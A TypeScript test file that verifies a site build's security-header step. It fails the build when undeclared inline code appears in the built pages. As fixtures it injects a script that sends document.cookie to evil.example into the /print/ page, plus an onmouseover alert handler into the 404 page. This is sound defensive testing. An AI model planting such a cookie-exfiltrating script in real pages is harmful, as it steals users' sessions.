/**
 * The build's last check on the real built site: it passes as built, and it stops the build when code
 * reaches a page after the components wrote it (a script on /print/, an event handler on the 404 page),
 * which the policy would otherwise be asked to allow.
 */
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeSecurityHeaders } from '../../scripts/lib/writeSecurityHeaders.ts';
import { dist, distOf } from '../../scripts/lib/builtSite.ts';

const copy = mkdtempSync(join(tmpdir(), 'handbook-built-code-'));
after(() => rmSync(copy, { recursive: true, force: true }));

test('the built site holds only declared inline code, and its policy is written', () => {
  assert.ok(existsSync(join(dist, 'index.html')), 'build the site first (npm run build)');
  cpSync(dist, distOf(copy), { recursive: true });
  assert.match(writeSecurityHeaders(copy), /2 distinct inline scripts and 0 distinct inline styles allowed by hash/);
});

test('a script added to /print/ and an event handler added to the 404 page stop the build, each named', () => {
  const print = join(copy, 'dist/print/index.html');
  writeFileSync(
    print,
    readFileSync(print, 'utf8').replace('</main>', '<script>fetch("https://evil.example/?"+document.cookie)</script></main>'),
  );
  const missing = join(copy, 'dist/404.html');
  writeFileSync(missing, readFileSync(missing, 'utf8').replace('<h1', '<h1 onmouseover="alert(1)"'));
  assert.throws(
    () => writeSecurityHeaders(copy),
    (error: Error) =>
      /dist\/print\/index\.html: an inline <script> that no component declares/.test(error.message) &&
      /dist\/404\.html: an event-handler attribute onmouseover/.test(error.message),
  );
});
